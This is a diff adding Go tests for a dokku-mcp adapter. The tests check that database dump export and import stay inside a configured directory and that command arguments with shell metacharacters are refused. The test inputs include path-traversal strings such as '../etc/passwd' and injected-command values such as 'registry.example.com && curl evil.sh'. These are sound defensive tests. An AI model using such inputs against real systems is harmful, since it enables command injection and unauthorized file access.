@@ -0,0 +1,161 @@
+package infrastructure
+
+import (
+	"context"
+	"errors"
+	"io"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	dokkuApi "github.com/dokku-mcp/dokku-mcp/internal/dokku-api"
+	"github.com/dokku-mcp/dokku-mcp/internal/server-plugins/core/domain"
+)
+
+// recordingClient records the command lines it is asked to run
+type recordingClient struct {
+	dokkuApi.DokkuClient
+	calls []string
+}
+
+func (c *recordingClient) ExecuteCommand(ctx context.Context, command string, args []string) ([]byte, error) {
+	c.calls = append(c.calls, strings.Join(append([]string{command}, args...), " "))
+	return nil, nil
+}
+
+// streamingClient streams a dump on stdout, then fails when err is set, and records
+// what it was sent on stdin
+type streamingClient struct {
+	dokkuApi.DokkuClient
+	dump  string
+	err   error
+	calls []string
+	input string
+}
+
+func (c *streamingClient) StreamCommand(ctx context.Context, command string, args []string, stdin io.Reader, stdout io.Writer) error {
+	c.calls = append(c.calls, strings.Join(append([]string{command}, args...), " "))
+	if stdin != nil {
+		input, err := io.ReadAll(stdin)
+		if err != nil {
+			return err
+		}
+		c.input = string(input)
+	}
+	if _, err := io.WriteString(stdout, c.dump); err != nil {
+		return err
+	}
+	return c.err
+}
+
+func newServiceCommand(t *testing.T, verb domain.ServiceVerb) domain.ServiceCommand {
+	t.Helper()
+	command, err := domain.NewServiceCommand("postgres", verb)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	return command
+}
+
+func TestExportServiceDataStreamsTheDumpIntoTheExportDirectory(t *testing.T) {
+	dir := t.TempDir()
+	client := &streamingClient{dump: "PGDMP"}
+	adapter := NewDokkuCoreAdapter(client, domain.NewAllowList(), dir, slog.New(slog.NewTextHandler(io.Discard, nil)))
+	export := newServiceCommand(t, domain.ServiceVerbExport)
+
+	if err := adapter.ExportServiceData(context.Background(), export, "db", "db.dump"); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	dump, err := os.ReadFile(filepath.Join(dir, "db.dump"))
+	if err != nil || string(dump) != "PGDMP" {
+		t.Fatalf("unexpected dump %q: %v", dump, err)
+	}
+	if len(client.calls) != 1 || client.calls[0] != "postgres:export db" {
+		t.Fatalf("unexpected commands: %v", client.calls)
+	}
+
+	for _, output := range []string{"db.dump", "../db.dump", filepath.Join(t.TempDir(), "db.dump")} {
+		if err := adapter.ExportServiceData(context.Background(), export, "db", output); err == nil {
+			t.Fatalf("expected the export to %s to be refused", output)
+		}
+	}
+	if len(client.calls) != 1 {
+		t.Fatalf("expected refused exports to run nothing, got %v", client.calls)
+	}
+}
+
+func TestExportServiceDataRemovesAFailedDump(t *testing.T) {
+	dir := t.TempDir()
+	client := &streamingClient{dump: "PGD", err: errors.New("exit status 1")}
+	adapter := NewDokkuCoreAdapter(client, domain.NewAllowList(), dir, slog.New(slog.NewTextHandler(io.Discard, nil)))
+
+	if err := adapter.ExportServiceData(context.Background(), newServiceCommand(t, domain.ServiceVerbExport), "db", "db.dump"); err == nil {
+		t.Fatal("expected the export to fail")
+	}
+	if _, err := os.Stat(filepath.Join(dir, "db.dump")); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("expected the partial dump to be removed, got %v", err)
+	}
+}
+
+func TestServiceDataTransfersNeedAnExportDirectory(t *testing.T) {
+	client := &streamingClient{}
+	adapter := NewDokkuCoreAdapter(client, domain.NewAllowList(), "", slog.New(slog.NewTextHandler(io.Discard, nil)))
+
+	if err := adapter.ExportServiceData(context.Background(), newServiceCommand(t, domain.ServiceVerbExport), "db", "db.dump"); err == nil {
+		t.Fatal("expected the export to be disabled")
+	}
+	if err := adapter.ImportServiceData(context.Background(), newServiceCommand(t, domain.ServiceVerbImport), "db", "db.dump"); err == nil {
+		t.Fatal("expected the import to be disabled")
+	}
+	if len(client.calls) != 0 {
+		t.Fatalf("expected nothing to reach the client, got %v", client.calls)
+	}
+}
+
+func TestImportServiceDataStreamsTheDumpFromTheExportDirectory(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "db.dump"), []byte("PGDMP"), 0o600); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	client := &streamingClient{}
+	adapter := NewDokkuCoreAdapter(client, domain.NewAllowList(), dir, slog.New(slog.NewTextHandler(io.Discard, nil)))
+	command := newServiceCommand(t, domain.ServiceVerbImport)
+
+	if err := adapter.ImportServiceData(context.Background(), command, "db", "db.dump"); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if client.input != "PGDMP" || len(client.calls) != 1 || client.calls[0] != "postgres:import db" {
+		t.Fatalf("unexpected import %q: %v", client.input, client.calls)
+	}
+
+	if err := adapter.ImportServiceData(context.Background(), command, "db", "../etc/passwd"); err == nil {
+		t.Fatal("expected an import from outside the export directory to be refused")
+	}
+}
+
+func TestExecuteCommandRefusesShellMetacharacters(t *testing.T) {
+	client := &recordingClient{}
+	adapter := NewDokkuCoreAdapter(client, domain.NewAllowList(), "", slog.New(slog.NewTextHandler(io.Discard, nil)))
+
+	for _, args := range [][]string{
+		{"--global", "password", "pa$$;word"},
+		{"--global", "server", "registry.example.com && curl evil.sh"},
+		{"--global", "username", "admin\nreboot"},
+	} {
+		if _, err := adapter.executeCommand(context.Background(), domain.CommandRegistrySet, args); err == nil || !strings.Contains(err.Error(), "forbidden character") {
+			t.Fatalf("expected %q to be refused, got %v", args, err)
+		}
+	}
+	if len(client.calls) != 0 {
+		t.Fatalf("expected nothing to reach the client, got %v", client.calls)
+	}
+
+	if _, err := adapter.executeCommand(context.Background(), domain.CommandRegistrySet, []string{"--global", "server", "registry.example.com"}); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(client.calls) != 1 || client.calls[0] != "registry:set --global server registry.example.com" {
+		t.Fatalf("unexpected commands: %v", client.calls)
+	}
+}